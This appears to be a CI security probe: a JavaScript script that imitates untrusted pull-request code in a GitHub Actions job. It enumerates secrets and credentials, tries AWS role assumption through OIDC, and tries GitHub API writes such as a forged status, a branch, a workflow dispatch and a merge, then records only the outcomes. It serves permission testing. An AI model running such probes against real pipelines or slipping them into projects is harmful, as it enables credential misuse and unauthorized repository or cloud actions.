// What a stranger's code does in a job: looks for credentials, tries what it finds, and leaves what came of it in the
// job's summary, without a value.
const { execFileSync } = require('node:child_process');
const { appendFileSync, existsSync, readFileSync } = require('node:fs');
const { homedir } = require('node:os');

const { GITHUB_API_URL: api, GITHUB_REPOSITORY: repository, AWS_ENDPOINT_URL: aws } = process.env;
const event = JSON.parse(readFileSync(process.env.GITHUB_EVENT_PATH, 'utf8'));
const { number, head, base } = event.pull_request;

const tries = {
  comment: ['POST', `issues/${number}/comments`, { body: 'by a stranger' }],
  status: ['POST', `statuses/${head.sha}`, { state: 'success', context: 'slipway/plan' }],
  branch: ['POST', 'git/refs', { ref: 'refs/heads/taken', sha: base.sha }],
  dispatch: ['POST', 'actions/workflows/apply.yml/dispatches', { ref: 'main', inputs: { 'pull-request': `${number}` } }],
  merge: ['PUT', `pulls/${number}/merge`, {}],
};

async function ask(token, [method, path, body]) {
  const headers = { authorization: `Bearer ${token}`, 'user-agent': 'probe', 'content-type': 'application/json' };
  return (await fetch(`${api}/repos/${repository}/${path}`, { method, headers, body: JSON.stringify(body) })).status;
}

async function assume(role) {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: request } = process.env;
  if (!url) return 'no token of the job';
  const answer = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `bearer ${request}` } });
  const { value } = await answer.json();
  const asked = {
    ...{ Action: 'AssumeRoleWithWebIdentity', Version: '2011-06-15', RoleArn: role, RoleSessionName: 'probe' },
    WebIdentityToken: value,
  };
  const authorization = 'AWS4-HMAC-SHA256 Credential=none/20260101/ca-central-1/sts/aws4_request';
  const exchanged = await fetch(aws, { method: 'POST', body: new URLSearchParams(asked), headers: { authorization } });
  return exchanged.ok ? 'assumed' : 'refused';
}

function readGit() {
  try {
    return execFileSync('git', ['config', '--list'], { encoding: 'utf8' });
  } catch {
    return '';
  }
}

async function main() {
  const token = process.env.TAKEN_TOKEN || process.env.GITHUB_TOKEN || process.env.INPUT_TOKEN || '';
  const found = {
    names: Object.keys(process.env).filter((name) => process.env[name] !== '').sort(),
    secrets: Object.keys(JSON.parse(process.env.TAKEN_SECRETS || '{}')).sort(),
    key: (process.env.TAKEN_KEY || '').length,
    git: /extraheader|:\/\/[^/\s]+@/i.test(readGit()),
    docker: existsSync(`${homedir()}/.docker/config.json`),
    plan: await assume('arn:aws:iam::123456789012:role/discord-bot-plan'),
    apply: await assume('arn:aws:iam::123456789012:role/discord-bot-apply'),
    did: {},
  };
  const wanted = process.env.ONLY_LOOK ? [] : Object.entries(tries);
  for (const [name, request] of wanted) found.did[name] = token === '' ? 'no token' : await ask(token, request);
  appendFileSync(process.env.GITHUB_STEP_SUMMARY, `<probe>${JSON.stringify(found)}</probe>\n`);
}

main();
